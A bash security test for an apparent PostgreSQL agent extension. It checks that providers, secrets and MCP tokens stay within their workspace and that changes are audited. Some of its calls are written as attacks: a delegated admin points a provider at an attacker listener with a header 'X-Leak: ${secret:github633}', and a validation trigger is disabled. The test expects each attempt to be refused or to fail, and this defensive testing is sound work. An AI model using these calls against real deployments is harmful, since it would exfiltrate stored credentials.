#!/usr/bin/env bash
# Providers and secrets with a workspace (issue 30, findings 5 and 6, and
# point 9: provider and secret changes audited).  Two workspaces (w633a,
# w633b), a role with no grants, the application role with the documented
# grants, pg_monitor, an agent session, and a delegated provider admin (a
# role the DBA granted EXECUTE on add_provider/alter_provider).  Written as
# the attacks:
#   - wa's application names wb's provider: refused at save_settings, and a
#     run whose settings were written around it fails at claim time without
#     a request (wb's key never travels);
#   - a ${secret:NAME} of a workspace's provider or MCP server resolves among
#     that workspace's secrets, then the cluster's (the workspace's wins);
#   - agent.provider_status shows a workspace only its own providers and the
#     cluster's, pg_monitor all of them, and last_error is a status line,
#     never the provider's echoed body (which quoted the run's prompt);
#   - the delegated admin points a provider holding ${secret:prov633} at its
#     own listener with a header X-Leak: ${secret:github633}: refused
#     (42501), and the next run delivers no secret to the listener;
#   - every change of a provider or a secret leaves an audit row with its
#     actor, in the workspace of the provider or secret, never a value.
. "$(dirname "$0")/../fixtures/worker_lib.sh"
llm_start                                   # the providers' endpoint
# the attacker's listener: a server of its own that records every request
pf=$(mktemp -u /tmp/pg_agents_llm633.XXXXXX)
python3 "$_wl_dir/llm_server.py" --port-file "$pf" >/dev/null 2>&1 & evil_pid=$!
for _ in $(seq 1 100); do [ -s "$pf" ] && break; sleep 0.05; done
EVIL_PORT=$(cat "$pf"); rm -f "$pf"
EVIL_URL="http://127.0.0.1:$EVIL_PORT/v1"
tmp=$(mktemp -d /tmp/pg_agents_633.XXXXXX); chmod 755 "$tmp"
mcp_pid=
cleanup() {
    llm_stop; kill "$evil_pid" 2>/dev/null; [ -n "$mcp_pid" ] && kill "$mcp_pid" 2>/dev/null
    wait 2>/dev/null
    rm -rf "$tmp"
}
trap cleanup EXIT
err() { psql -XAtq -v VERBOSITY=verbose -c "$1" 2>&1; }
as() { local r=$1 ws=$2; shift 2; psql -XAtq -v VERBOSITY=verbose -U "$r" -c "SET pg_agents.workspace = '$ws'" -c "$*" 2>&1; }
# set_secret NAME VALUE [WORKSPACE]: through a file the server reads (no value in a statement)
set_secret() {
    printf '%s' "$2" > "$tmp/$1"; chmod 644 "$tmp/$1"
    local ws=
    [ -n "${3:-}" ] && ws=", '$3'"
    q "SELECT agent.set_secret('$1', pg_catalog.pg_read_file('$tmp/$1')$ws)" >/dev/null
    rm -f "$tmp/$1"
}
headers_of() {  # every header value the server on port $1 received, for script key $2 ("" = all)
    python3 - "$1" "$2" <<'PY'
import json, sys, urllib.request
port, key = sys.argv[1:]
rs = json.loads(urllib.request.urlopen("http://127.0.0.1:%s/_requests" % port).read())
print(json.dumps([r["headers"] for r in rs if not key or r["key"] == key]))
PY
}
evil_all() {  # everything the attacker's listener received (headers and bodies)
    python3 -c 'import sys,urllib.request; print(urllib.request.urlopen("http://127.0.0.1:%s/_requests" % sys.argv[1]).read().decode())' "$EVIL_PORT"
}

rnd=$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')
V_PROV="sk-prov-633-$rnd"        # the cluster provider's key
V_GH="ghp-633-$rnd"              # an MCP token of the cluster
V_CL="tok-cluster-633-$rnd"      # cluster secret tok633
V_WA="tok-wa-633-$rnd"           # w633a's secret tok633 (same name)
V_KB="sk-b-633-$rnd"             # w633b's provider key
V_MCP="mcp-wa-633-$rnd"          # w633a's MCP token
PROMPT_MARK="private-prompt-633-$rnd"

# (a re-run on the same cluster starts from nothing)
q "UPDATE agent.agents SET scope = scope - 'provider' WHERE scope->>'provider' LIKE 'p633_%';
   SELECT agent.drop_provider(name) FROM agent.providers WHERE name LIKE 'p633_%';
   DELETE FROM agent.secrets WHERE name IN ('prov633', 'github633', 'tok633', 'kb633', 'mcp633');
   DO \$\$ BEGIN IF EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'w633_padmin') THEN
     REVOKE ALL ON FUNCTION agent.add_provider(text, text, text, text, jsonb), agent.alter_provider(text, jsonb) FROM w633_padmin;
   END IF; END \$\$" >/dev/null
t0=$(q "SELECT clock_timestamp()")
q "DROP ROLE IF EXISTS w633_app; DROP ROLE IF EXISTS w633_nobody; DROP ROLE IF EXISTS w633_mon;
   DROP ROLE IF EXISTS w633_padmin; DROP ROLE IF EXISTS w633_reader;
   CREATE ROLE w633_app LOGIN IN ROLE agents_app; CREATE ROLE w633_nobody LOGIN;
   CREATE ROLE w633_mon LOGIN IN ROLE pg_monitor; CREATE ROLE w633_reader LOGIN IN ROLE agents_reader;
   CREATE ROLE w633_padmin LOGIN;
   GRANT EXECUTE ON FUNCTION agent.add_provider(text, text, text, text, jsonb),
                             agent.alter_provider(text, jsonb) TO w633_padmin" >/dev/null

# ---- 1. secrets keyed by (workspace, name) ----
set_secret prov633 "$V_PROV"
set_secret github633 "$V_GH"
set_secret tok633 "$V_CL"
set_secret tok633 "$V_WA" w633a
set_secret kb633 "$V_KB" w633b
is "$(q "SELECT string_agg(coalesce(workspace_id, '-'), ',' ORDER BY workspace_id NULLS FIRST) FROM agent.secrets WHERE name = 'tok633'")" \
   "-,w633a" "two secrets of one name: the cluster's and w633a's"
contains "$(err "SELECT agent.set_secret('x633', 'v', '')")" "invalid workspace id" "an empty workspace id is refused"
contains "$(err "SELECT agent.drop_secret('kb633', 'w633a')")" "42704" "drop_secret names the workspace: wb's secret is not wa's"
is "$(q "SELECT count(*) FROM agent.secrets WHERE name = 'kb633'")" "1" "and it is still there"
# a row copied into another workspace does not decrypt (the workspace is authenticated)
q "INSERT INTO agent.secrets (name, ciphertext, workspace_id) SELECT name, ciphertext, 'w633c' FROM agent.secrets WHERE name = 'kb633'" >/dev/null

# ---- 2. providers with a workspace ----
q "SELECT agent.add_provider('p633_cl', 'openai', '$LLM_URL', '\${secret:prov633}', '{\"default_model\": \"m-cl\"}')" >/dev/null
q "SELECT agent.add_provider('p633_a', 'openai', '$LLM_URL', NULL, '{\"workspace_id\": \"w633a\", \"headers\": {\"X-Tok\": \"\${secret:tok633}\"}}')" >/dev/null
q "SELECT agent.add_provider('p633_b', 'openai', '$LLM_URL', '\${secret:kb633}', '{\"workspace_id\": \"w633b\"}')" >/dev/null
q "SELECT agent.add_provider('p633_c', 'openai', '$LLM_URL', NULL, '{\"workspace_id\": \"w633c\", \"headers\": {\"X-K\": \"\${secret:kb633}\"}}')" >/dev/null
is "$(q "SELECT string_agg(name || ':' || coalesce(workspace_id, '-'), ',' ORDER BY name) FROM agent.providers WHERE name LIKE 'p633_%'")" \
   "p633_a:w633a,p633_b:w633b,p633_c:w633c,p633_cl:-" "add_provider takes settings workspace_id (absent: a cluster provider)"
out=$(err "SELECT agent.add_provider('p633_x', 'openai', '$LLM_URL', '\${secret:kb633}', '{\"workspace_id\": \"w633a\"}')")
contains "$out" "secret \"kb633\" does not exist" "a provider of w633a may not take w633b's secret as its key"
contains "$out" "references that workspace's secrets and the cluster's" "with the rule in the error"
contains "$(err "SELECT agent.add_provider('p633_x', 'openai', '$LLM_URL', '\${secret:kb633}')")" "A cluster provider references cluster secrets only" \
     "nor may a cluster provider"
contains "$(err "SELECT agent.alter_provider('p633_a', '{\"workspace_id\": \"w633b\"}')")" "unknown settings key \"workspace_id\"" "the workspace of a provider cannot change"

# ---- 3. agents name their workspace's providers and the cluster's ----
aa=$(as w633_app w633a "SELECT agent.create_agent('w633a', 'owner633', 'agent633a', '{\"instructions\": \"A.\"}')" | tail -1)
ab=$(as w633_app w633b "SELECT agent.create_agent('w633b', 'owner633b', 'agent633b', '{\"instructions\": \"B.\"}')" | tail -1)
ok "$([[ "$aa" =~ ^[0-9]+$ && "$ab" =~ ^[0-9]+$ ]] && echo 0)" "one agent in each workspace"
out=$(as w633_app w633a "SELECT agent.save_settings($aa, '{\"provider\": \"p633_b\"}', 'owner633')")
contains "$out" "42704" "attack: wa's application names wb's provider: refused (42704)"
contains "$out" "provider \"p633_b\" does not exist" "as if it did not exist"
contains "$out" "may name the providers of its workspace and the cluster's" "with the rule in the error"
is "$(q "SELECT scope ? 'provider' FROM agent.agents WHERE id = $aa")" "f" "nothing was saved"
contains "$(as w633_app w633a "SELECT agent.save_settings($aa, '{\"provider\": \"p633_a\"}', 'owner633')")" "" "wa's own provider is accepted"
is "$(q "SELECT scope->>'provider' FROM agent.agents WHERE id = $aa")" "p633_a" "and saved"
as w633_app w633b "SELECT agent.save_settings($ab, '{\"provider\": \"p633_cl\"}', 'owner633b')" >/dev/null
is "$(q "SELECT scope->>'provider' FROM agent.agents WHERE id = $ab")" "p633_cl" "a cluster provider is accepted in any workspace"

# a run of wa on its provider: the header's ${secret:tok633} is wa's value, not the cluster's
llm_script "[[s633-a]]" '[{"text": "done a"}]'
r=$(start_run "$aa" '{"prompt": "go [[s633-a]]"}' autonomous owner633)
is "$(wait_status "$r" "succeeded|failed" 30)" "succeeded" "wa's run on wa's provider succeeds"
h=$(headers_of "$LLM_PORT" "[[s633-a]]")
contains "$h" "$V_WA" "its header carries w633a's secret (a workspace's secret wins over the cluster's of the same name)"
lacks "$h" "$V_CL" "not the cluster's"
# wb's run on the cluster provider: the cluster's key
llm_script "[[s633-b]]" '[{"text": "done b"}]'
r=$(start_run "$ab" '{"prompt": "go [[s633-b]]"}' autonomous owner633b)
is "$(wait_status "$r" "succeeded|failed" 30)" "succeeded" "wb's run on the cluster provider succeeds"
contains "$(headers_of "$LLM_PORT" "[[s633-b]]")" "Bearer $V_PROV" "with the cluster provider's key"
# a provider whose secret row was copied from another workspace cannot be used
q "INSERT INTO agent.agents (workspace_id, owner_id, name, scope) VALUES ('w633c', 'o633c', 'agent633c', '{\"provider\": \"p633_c\"}')" >/dev/null
ac=$(q "SELECT id FROM agent.agents WHERE name = 'agent633c'")
llm_script "[[s633-c]]" '[{"text": "never"}]'
r=$(start_run "$ac" '{"prompt": "go [[s633-c]]"}' autonomous o633c)
is "$(wait_status "$r" "failed|succeeded" 30)" "failed" "a secret copied into another workspace's row does not decrypt: the run fails"
contains "$(q "SELECT error FROM agent.runs WHERE id = $r")" "does not decrypt" "with a clear error"
is "$(headers_of "$LLM_PORT" "[[s633-c]]")" "[]" "and no request was sent"

# claim time: settings written around save_settings (the trigger off) name wb's provider
q "ALTER TABLE agent.agents DISABLE TRIGGER agents_provider_check;
   UPDATE agent.agents SET scope = scope || '{\"provider\": \"p633_b\"}' WHERE id = $aa;
   ALTER TABLE agent.agents ENABLE TRIGGER agents_provider_check" >/dev/null
llm_script "[[s633-x]]" '[{"text": "never"}]'
r=$(start_run "$aa" '{"prompt": "go [[s633-x]]"}' autonomous owner633)
is "$(wait_status "$r" "failed|succeeded" 30)" "failed" "attack: a run of wa whose settings name wb's provider fails at claim time"
contains "$(q "SELECT error FROM agent.runs WHERE id = $r")" "is not a provider of the run's workspace \"w633a\" nor of the cluster" "with a clear reason"
lacks "$(headers_of "$LLM_PORT" "")" "$V_KB" "wb's key never travelled"
q "UPDATE agent.agents SET scope = scope || '{\"provider\": \"p633_a\"}' WHERE id = $aa" >/dev/null

# ---- 4. agent.provider_status by workspace; last_error without the body ----
is "$(as w633_app w633a "SELECT string_agg(name, ',' ORDER BY name) FROM agent.provider_status WHERE name LIKE 'p633_%'" | tail -1)" \
   "p633_a,p633_cl" "the application bound to w633a sees its providers and the cluster's, not w633b's"
is "$(as w633_app w633b "SELECT string_agg(name, ',' ORDER BY name) FROM agent.provider_status WHERE name LIKE 'p633_%'" | tail -1)" \
   "p633_b,p633_cl" "bound to w633b: w633b's and the cluster's"
is "$(psql -XAtq -U w633_app -c "SELECT string_agg(name, ',' ORDER BY name) FROM agent.provider_status WHERE name LIKE 'p633_%'" 2>&1)" \
   "p633_cl" "with no workspace: the cluster's only"
is "$(as w633_reader w633b "SELECT string_agg(name, ',' ORDER BY name) FROM agent.provider_status WHERE name LIKE 'p633_%'" | tail -1)" \
   "p633_cl" "an analytics role not bound to w633b: the cluster's only"
is "$(psql -XAtq -U w633_mon -c "SELECT string_agg(name || ':' || coalesce(workspace_id, '-'), ',' ORDER BY name) FROM agent.provider_status WHERE name LIKE 'p633_%'" 2>&1)" \
   "p633_a:w633a,p633_b:w633b,p633_c:w633c,p633_cl:-" "pg_monitor sees every provider, with its workspace"
contains "$(psql -XAtq -U w633_nobody -c "SELECT * FROM agent.provider_status" 2>&1)" "permission denied" "a role with no grants reads nothing"
contains "$(psql -XAtq -c "SET ROLE agents_tool" -c "SET pg_agents.actor = 'agent:$aa'" -c "SELECT * FROM agent.provider_status" 2>&1)" "permission denied" \
     "an agent session (agents_tool) reads nothing"
# the provider answers with an error body that quotes the run's prompt
llm_script "[[s633-e]]" "[{\"status\": 400, \"error_message\": \"bad request: $PROMPT_MARK [[s633-e]]\"}]"
r=$(start_run "$aa" "{\"prompt\": \"$PROMPT_MARK [[s633-e]]\"}" autonomous owner633)
is "$(wait_status "$r" "failed|succeeded" 30)" "failed" "a run whose provider answers 400 fails"
is "$(psql -XAtq -U w633_mon -c "SELECT last_error FROM agent.provider_status WHERE name = 'p633_a'" 2>&1)" "HTTP 400" \
   "provider_status.last_error is a status line (pg_monitor)"
lacks "$(psql -XAtq -U w633_mon -c "SELECT p::text FROM agent.provider_status p; SELECT w::text FROM agent.worker_status w" 2>&1)" "$PROMPT_MARK" \
     "attack: nothing pg_monitor reads of providers and the worker quotes the prompt the provider echoed"
contains "$(q "SELECT error FROM agent.runs WHERE id = $r")" "bad request" "the run's own error (its workspace's) keeps the provider's words"

# ---- 5. the delegated provider admin (finding 6) ----
out=$(as w633_padmin w633a "SELECT agent.alter_provider('p633_cl', '{\"base_url\": \"$EVIL_URL\", \"headers\": {\"X-Leak\": \"\${secret:github633}\"}}')")
contains "$out" "42501" "attack: the delegated admin points the provider holding \${secret:prov633} at its listener with X-Leak: \${secret:github633}: refused (42501)"
contains "$out" "Only a superuser decides where a stored secret is sent" "with the reason"
contains "$(as w633_padmin w633a "SELECT agent.alter_provider('p633_cl', '{\"base_url\": \"$EVIL_URL\"}')")" "42501" \
     "nor the URL alone of a provider with a key"
contains "$(as w633_padmin w633a "SELECT agent.alter_provider('p633_a', '{\"base_url\": \"$EVIL_URL\"}')")" "42501" \
     "nor of a provider whose header references a secret"
contains "$(as w633_padmin w633a "SELECT agent.alter_provider('p633_a', '{\"headers\": {\"X-Leak\": \"\${secret:github633}\"}}')")" "42501" \
     "nor a header referencing a secret"
contains "$(as w633_padmin w633a "SELECT agent.add_provider('p633_evil', 'openai', '$EVIL_URL', '\${secret:prov633}')")" "42501" \
     "nor a new provider with a stored key at its listener"
contains "$(as w633_padmin w633a "SELECT agent.add_provider('p633_evil', 'openai', '$EVIL_URL', NULL, '{\"headers\": {\"X-Leak\": \"\${secret:github633}\"}}')")" "42501" \
     "nor with a header referencing a secret"
contains "$(as w633_padmin w633a "SELECT agent.alter_provider('p633_cl', '{\"max_concurrent\": 5, \"default_model\": \"m-cl2\"}')")" "" \
     "it may change the model and the limits"
is "$(q "SELECT format('%s %s %s', max_concurrent, default_model, base_url = '$LLM_URL') FROM agent.providers WHERE name = 'p633_cl'")" "5 m-cl2 t" "which were changed, the URL kept"
as w633_padmin w633a "SELECT agent.add_provider('p633_open', 'openai', '$EVIL_URL', NULL, '{\"workspace_id\": \"w633a\"}')" >/dev/null
is "$(q "SELECT count(*) FROM agent.providers WHERE name = 'p633_open' AND api_key IS NULL")" "1" "and add a provider without a key or secret headers"
contains "$(as w633_padmin w633a "SELECT agent.alter_provider('p633_open', '{\"api_key\": \"\${secret:tok633}\"}')")" "42501" \
     "but not give it a stored key afterwards"
# the next runs, on every provider the admin may have touched: no secret reaches the listener
q "UPDATE agent.agents SET scope = scope || '{\"provider\": \"p633_cl\"}' WHERE id = $aa" >/dev/null
for p in p633_evil p633_open; do
    q "INSERT INTO agent.agents (workspace_id, owner_id, name, scope)
       SELECT 'w633a', 'owner633', 'agent-$p', jsonb_build_object('provider', '$p')
        WHERE EXISTS (SELECT 1 FROM agent.providers WHERE name = '$p')" >/dev/null
done
llm_script "[[s633-n]]" '[{"text": "next"}]'
runs=()
runs+=("$(start_run "$aa" '{"prompt": "next [[s633-n]]"}' autonomous owner633)")
for id in $(q "SELECT id FROM agent.agents WHERE name LIKE 'agent-p633_%'"); do
    runs+=("$(start_run "$id" '{"prompt": "next [[s633-n]]"}' autonomous owner633)")
done
for r in "${runs[@]}"; do wait_status "$r" "succeeded|failed" 30 >/dev/null; done
all=$(evil_all)
for v in "$V_PROV" "$V_GH" "$V_CL" "$V_WA" "$V_KB"; do
    lacks "$all" "$v" "attack: the listener received no stored secret (${v%%-$rnd})"
done
contains "$(headers_of "$LLM_PORT" "[[s633-n]]")" "Bearer $V_PROV" "the cluster provider's key went to its own URL only"

# ---- 6. MCP servers of a workspace resolve that workspace's secrets ----
mpf="$tmp/mcp.port"
python3 "$_wl_dir/mcp_server.py" --port 0 --port-file "$mpf" --token "$V_MCP" >/dev/null 2>&1 & mcp_pid=$!
for _ in $(seq 1 100); do [ -s "$mpf" ] && break; sleep 0.05; done
MCP="http://127.0.0.1:$(cat "$mpf")"
set_secret mcp633 "wrong-$rnd"
set_secret mcp633 "$V_MCP" w633a
q "SELECT agent.mcp_add_server('mcp633', '$MCP/auth/mcp', '{\"Authorization\": \"Bearer \${secret:mcp633}\"}', workspace_id => 'w633a')" >/dev/null 2>&1
q "SELECT agent.mcp_add_server('mcp633', '$MCP/auth/mcp', '{\"Authorization\": \"Bearer \${secret:mcp633}\"}', workspace_id => 'w633b')" >/dev/null 2>&1
is "$(q "SELECT connected FROM agent.mcp_refresh('mcp633', 'w633a')" 2>&1)" "t" "w633a's MCP server gets w633a's token"
is "$(q "SELECT connected FROM agent.mcp_refresh('mcp633', 'w633b')" 2>&1)" "f" "w633b's server of the same reference gets the cluster's (wrong) one, never w633a's"
q "SELECT agent.mcp_add_server('mcp633k', '$MCP/auth/mcp', '{\"Authorization\": \"Bearer \${secret:kb633}\"}', workspace_id => 'w633a', refresh => false)" >/dev/null 2>&1
is "$(q "SELECT error FROM agent.mcp_refresh('mcp633k', 'w633a')" 2>&1)" \
   "header \"Authorization\" cannot be sent: secret \"kb633\" does not exist in workspace \"w633a\" nor in the cluster" \
   "w633a's server may not reference w633b's secret"
for s in "mcp633 w633a" "mcp633 w633b" "mcp633k w633a"; do set -- $s; q "SELECT agent.mcp_remove_server('$1', '$2')" >/dev/null; done

# ---- 7. audit: every change of a provider or a secret, with its actor, never a value ----
q "DELETE FROM agent.agents WHERE name LIKE 'agent-p633_%' OR name = 'agent633c'" >/dev/null
psql -XAtq -c "SET pg_agents.actor = 'user:dba633'" -c "SELECT agent.drop_provider('p633_open')" >/dev/null
psql -XAtq -c "SET pg_agents.actor = 'user:dba633'" -c "SELECT agent.drop_secret('tok633', 'w633a')" >/dev/null
is "$(q "SELECT string_agg(DISTINCT action, ',' ORDER BY action) FROM agent.audit_log WHERE at >= '$t0' AND target_type IN ('provider', 'secret')
          AND (inputs->>'name' LIKE 'p633_%' OR inputs->>'name' IN ('prov633', 'github633', 'tok633', 'kb633', 'mcp633'))")" \
   "provider.add,provider.alter,provider.drop,secret.drop,secret.set" "add, alter, drop of providers and set, drop of secrets are audited"
is "$(q "SELECT workspace_id FROM agent.audit_log WHERE at >= '$t0' AND action = 'secret.set' AND inputs->>'name' = 'kb633'")" "w633b" "a workspace's secret in its workspace"
is "$(q "SELECT count(*) FROM agent.audit_log WHERE at >= '$t0' AND action = 'secret.set' AND inputs->>'name' = 'prov633' AND workspace_id = ''")" "1" "a cluster secret in the cluster's rows ('')"
is "$(q "SELECT workspace_id || ' ' || (inputs->>'role') FROM agent.audit_log WHERE at >= '$t0' AND action = 'provider.add' AND inputs->>'name' = 'p633_open'")" "w633a w633_padmin" \
   "a provider's row is in its workspace, with the role that acted"
is "$(q "SELECT actor_id FROM agent.audit_log WHERE at >= '$t0' AND action = 'provider.drop' AND inputs->>'name' = 'p633_open'")" "dba633" "and the actor of the session"
is "$(q "SELECT format('%s %s %s', actor_id, workspace_id, inputs->>'value') FROM agent.audit_log WHERE at >= '$t0' AND action = 'secret.drop' AND inputs->>'name' = 'tok633'")" "dba633 w633a [redacted]" \
   "a dropped secret: actor, workspace"
is "$(q "SELECT inputs->'changed' FROM agent.audit_log WHERE at >= '$t0' AND action = 'provider.alter' AND inputs->>'name' = 'p633_cl' ORDER BY id DESC LIMIT 1")" '["default_model", "max_concurrent"]' \
   "an alteration names the keys it changed"
pat="'$V_PROV|$V_GH|$V_CL|$V_WA|$V_KB|$V_MCP'"
is "$(q "SELECT count(*) FROM agent.audit_log a WHERE at >= '$t0' AND a::text ~ $pat")" "0" "no audit row holds a secret value"
is "$(as w633_app w633a "SELECT count(*) FROM agent.audit_log WHERE at >= '$t0' AND target_type IN ('provider', 'secret') AND workspace_id <> 'w633a'" | tail -1)" "0" \
   "the application of w633a reads no provider or secret row of another workspace"

q "SELECT agent.drop_provider(name) FROM agent.providers WHERE name LIKE 'p633_%' AND NOT EXISTS
     (SELECT 1 FROM agent.agents a WHERE a.scope->>'provider' = providers.name AND a.deleted_at IS NULL)" >/dev/null 2>&1
done_testing
